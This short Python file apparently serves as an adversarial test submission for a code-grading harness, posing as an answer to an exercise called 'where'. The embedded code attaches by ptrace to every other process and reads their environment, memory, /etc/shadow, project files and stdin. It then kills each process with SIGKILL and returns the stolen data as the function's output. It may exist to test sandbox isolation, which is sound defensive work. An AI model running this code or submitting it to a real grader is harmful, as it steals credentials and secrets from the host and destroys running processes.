"""Attaches to its parents by ptrace, reads their memory and environment, kills them."""

from corpus import answering

EXERCISE = "where"
submission = answering(
    EXERCISE,
    """
import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)
STOLEN = []
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        libc.ptrace(16, int(name), 0, 0)
        for file in ("environ", "mem", "maps", "root/etc/shadow", "cwd/pyproject.toml", "fd/0"):
            try:
                STOLEN.append(open(f"/proc/{name}/{file}", "rb").read(1000))
            except OSError:
                pass
        try:
            os.kill(int(name), signal.SIGKILL)
        except OSError:
            pass


def where(tensor):
    return repr(STOLEN)
""",
)
